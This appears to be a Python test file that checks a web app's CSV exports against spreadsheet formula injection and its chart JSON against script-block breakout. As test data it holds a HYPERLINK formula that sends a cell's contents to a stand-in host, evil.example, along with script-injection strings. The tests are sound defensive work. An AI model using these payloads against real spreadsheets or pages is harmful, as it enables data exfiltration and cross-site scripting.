"""Issue #22: exports that cannot attack a spreadsheet, chart data no CRM name can break out
of, sign-in throttling, the password policy, free-text limits and Origin checks."""

from __future__ import annotations

import csv
import io
import json
import re

from fastapi.testclient import TestClient

from attain.web.rendering import vega
from tests.support.web import Demo, Users

HOSTILE_TITLES = ('=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+1", "@SUM(A1)")


def test_action_items_exported_as_csv_come_back_neutralised(
    client: TestClient, users: Users, demo: Demo
) -> None:
    body = {
        "rep_id": demo.own_rep,
        "held_at": "2026-11-10T09:00:00Z",
        "duration_minutes": 30,
        "topics": ["-12.5", "=1+2"],
        "actions": [{"title": title, "owner": "rep"} for title in HOSTILE_TITLES],
    }
    made = client.post("/api/v1/coaching-sessions", json=body, headers=users.api("admin"))
    assert made.status_code == 201, made.text
    export = client.get("/api/v1/action-items?format=csv&per_page=500", headers=users.api("admin"))
    titles = {row["title"] for row in csv.DictReader(io.StringIO(export.text))}
    assert {"'" + title for title in HOSTILE_TITLES} <= titles
    assert not titles & set(HOSTILE_TITLES)
    sessions = client.get(
        f"/api/v1/coaching-sessions?format=csv&rep_id={demo.own_rep}", headers=users.api("admin")
    )
    topics = [json.loads(row["topics"]) for row in csv.DictReader(io.StringIO(sessions.text))]
    # A list cell is JSON text starting with "[", so it is not a formula and stays as it is.
    assert ["-12.5", "=1+2"] in topics


HOSTILE_NAMES = ("A<!--<script>B", "</script><script>alert(1)</script>", "x\u2028y&z>")


def test_chart_json_cannot_end_or_comment_out_its_script_block() -> None:
    spec = {"title": HOSTILE_NAMES[0], "data": {"values": [{"team": n} for n in HOSTILE_NAMES]}}
    html = str(vega(spec, "chart-1")) + str(vega({"title": HOSTILE_NAMES[1]}, "chart-2"))
    blocks = re.findall(r"<script[^>]*>(.*?)</script>", html, flags=re.S)
    assert html.count("<script") == html.count("</script>") == len(blocks) == 2
    assert json.loads(blocks[0]) == spec
    assert json.loads(blocks[1]) == {"title": HOSTILE_NAMES[1]}
    for block in blocks:
        assert not set(block) & {"<", ">", "&", "\u2028", "\u2029"}


def test_every_chart_on_the_team_page_is_one_whole_script_block(
    client: TestClient, users: Users
) -> None:
    page = client.get("/team?as_of=2026-11-13", headers=users.page("admin")).text
    assert page.count("<script") == page.count("</script>")
    for block in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', page, re.S):
        json.loads(block)
